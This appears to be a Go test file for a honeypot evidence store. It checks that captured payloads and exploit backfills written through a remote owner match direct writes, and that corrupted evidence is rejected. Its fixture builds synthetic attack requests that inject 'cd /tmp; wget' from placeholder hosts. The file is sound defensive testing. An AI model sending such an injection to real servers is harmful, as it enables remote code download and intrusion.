package remote

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/netip"
	"path/filepath"
	"reflect"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/civil"
	"github.com/honeyscope/honeyscope/internal/decode"
	"github.com/honeyscope/honeyscope/internal/evidence"
	"github.com/honeyscope/honeyscope/internal/store"
	"github.com/honeyscope/honeyscope/internal/store/duckstore"
)

// evidencePart collects n payload packets of a few distinct payloads
// (one longer than the kept length) from several sources.
func evidencePart(n int) *evidence.Part {
	c := evidence.NewCollector(time.UTC, evidence.Options{MaxLen: 64})
	t0 := time.Date(2026, 5, 1, 1, 0, 0, 0, time.UTC)
	for i := range n {
		pay := []byte(fmt.Sprintf("GET /shell?cd+/tmp;wget+http://198.51.100.%d/x HTTP/1.1\r\n", i%7))
		if i%5 == 0 {
			pay = append(pay, bytes.Repeat([]byte{'a'}, 100)...)
		}
		p := decode.Packet{Src: netip.AddrFrom4([4]byte{203, 0, 113, byte(i % 11)}), Proto: decode.ProtoTCP,
			HasTransport: true, DstPort: uint16(80 + i%3), Payload: pay}
		c.Add(t0.Add(time.Duration(i)*time.Minute).UnixNano(), &p)
	}
	return c.Result()
}

// TestEvidenceThroughOwner: a capture's evidence committed through the
// owner (in many small frames) is stored as a direct commit stores it,
// and the evidence reads through the owner answer as the store does.
func TestEvidenceThroughOwner(t *testing.T) {
	old := evidenceFrame
	evidenceFrame = 200
	defer func() { evidenceFrame = old }()
	ctx := context.Background()
	st, _ := owned(t)
	cl := dial(t, st)
	d := direct(t)
	part := evidencePart(300)
	if len(part.Payloads) < 10 || part.Truncated == 0 {
		t.Fatalf("part %d payloads, %d truncated", len(part.Payloads), part.Truncated)
	}
	for _, w := range []store.Writer{cl, d} {
		r, places := result(3, 5)
		if _, err := w.Commit(ctx, &store.Batch{Ingest: ingestOf("/x.pcap", "sha256:x", "lab"), Result: r, Places: places,
			Pattern: pattern, Sensor: store.Sensor{Name: "lab"}, Evidence: part}); err != nil {
			t.Fatal(err)
		}
	}
	sameTables(t, "evidence through the owner", st, d)
	for _, tb := range []string{"payloads", "evidence_counts", "evidence_ingests"} {
		q := "SELECT * EXCLUDE (ingest_id) FROM " + tb + " ORDER BY ALL"
		if tb == "payloads" {
			q = "SELECT * FROM payloads ORDER BY ALL"
		}
		if a, b := dump(t, st, q), dump(t, d, q); a != b || a == "" {
			t.Fatalf("%s through the owner\n%s\ndirect\n%s", tb, a, b)
		}
	}
	q := store.EvidenceQuery{From: civil.FromDate(2026, 5, 1), Sensor: "lab"}
	gotDays, err := cl.EvidenceDays(ctx, q)
	wantDays, err2 := d.EvidenceDays(ctx, q)
	if err != nil || err2 != nil || len(wantDays) == 0 || !reflect.DeepEqual(gotDays, wantDays) {
		t.Fatalf("evidence days through the owner %v (%v), direct %v (%v)", gotDays, err, wantDays, err2)
	}
	gotRuns, err := cl.RuleSetRuns(ctx, store.EvidenceQuery{})
	wantRuns, err2 := st.RuleSetRuns(ctx, store.EvidenceQuery{})
	if err != nil || err2 != nil || len(wantRuns) == 0 || !reflect.DeepEqual(gotRuns, wantRuns) {
		t.Fatalf("rule set runs through the owner %v (%v), owner's store %v (%v)", gotRuns, err, wantRuns, err2)
	}
	if _, err := cl.Backfill(ctx, store.BuiltinRuleSet, q, store.Classifiers{}, nil); err == nil || err.Error() != errBackfillRemote.Error() {
		t.Fatalf("backfill through an owner without classifiers: %v", err)
	}
}

// TestBackfillThroughOwner: a backfill a client asks for runs on the
// owner with the classifiers it builds, and writes what the same backfill
// on a store opened directly writes.
func TestBackfillThroughOwner(t *testing.T) {
	ctx := context.Background()
	st, err := duckstore.Open(ctx, filepath.Join(t.TempDir(), "b.duckdb"), duckstore.Options{TimeZone: "Asia/Tokyo"})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	classify := func(p store.EvidencePayload) string {
		if bytes.Contains(p.Data, []byte("198.51.100.3")) {
			return "1:42:1"
		}
		return ""
	}
	asked := int32(0)
	srv := NewServer(st, nil)
	srv.Classifiers = func(_ context.Context, id int32) (store.Classifiers, error) {
		asked = id
		return store.Classifiers{Payload: classify}, nil
	}
	if err := srv.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer srv.Stop(ctx)
	cl := dial(t, st)
	d := direct(t)
	part := evidencePart(200)
	for _, w := range []store.Writer{cl, d} {
		r, places := result(5, 4)
		if _, err := w.Commit(ctx, &store.Batch{Ingest: ingestOf("/y.pcap", "sha256:y", "lab"), Result: r, Places: places,
			Pattern: pattern, Sensor: store.Sensor{Name: "lab"}, Evidence: part}); err != nil {
			t.Fatal(err)
		}
	}
	got, err := cl.Backfill(ctx, 7, store.EvidenceQuery{}, store.Classifiers{}, nil)
	if err != nil || asked != 7 {
		t.Fatalf("backfill through the owner: %+v %v (asked for %d)", got, err, asked)
	}
	want, err := d.Backfill(ctx, 7, store.EvidenceQuery{}, store.Classifiers{Payload: classify}, nil)
	if err != nil || want.Exploits == 0 || got != want {
		t.Fatalf("backfill through the owner %+v, direct %+v (%v)", got, want, err)
	}
	q := "SELECT * FROM exploit_counts ORDER BY ALL"
	if a, b := dump(t, st, q), dump(t, d, q); a != b {
		t.Fatalf("exploit counts through the owner\n%s\ndirect\n%s", a, b)
	}
	if _, err := cl.ReadOnly().Backfill(ctx, 7, store.EvidenceQuery{}, store.Classifiers{}, nil); !errors.Is(err, errReadOnly) {
		t.Fatalf("read-only backfill: %v", err)
	}
}

// TestEvidenceHostile: parts the owner must refuse, each with an error
// naming what is wrong, the transaction rolled back.
func TestEvidenceHostile(t *testing.T) {
	ctx := context.Background()
	st, _ := owned(t)
	cl := dial(t, st)
	for name, bad := range map[string]func(p *evidence.Part){
		"count of an absent payload": func(p *evidence.Part) { p.Counts[0].Payload = uint32(len(p.Payloads)) },
		"hash not of its bytes": func(p *evidence.Part) {
			for i := range p.Payloads {
				if !p.Payloads[i].Truncated() {
					p.Payloads[i].Hash[0] ^= 1
					return
				}
			}
		},
		"kept beyond its length": func(p *evidence.Part) { p.MaxLen = 8 },
	} {
		p := evidencePart(40)
		bad(p)
		tx, err := cl.Begin(ctx)
		if err != nil {
			t.Fatal(err)
		}
		err = tx.(store.EvidenceTx).AppendEvidence(ctx, p, "lab")
		tx.Abort()
		if err == nil {
			t.Fatalf("%s: accepted", name)
		}
	}
	if n := dump(t, st, "SELECT count(*) FROM evidence_ingests"); n != "0\n" {
		t.Fatalf("evidence_ingests after refused parts: %q", n)
	}
}
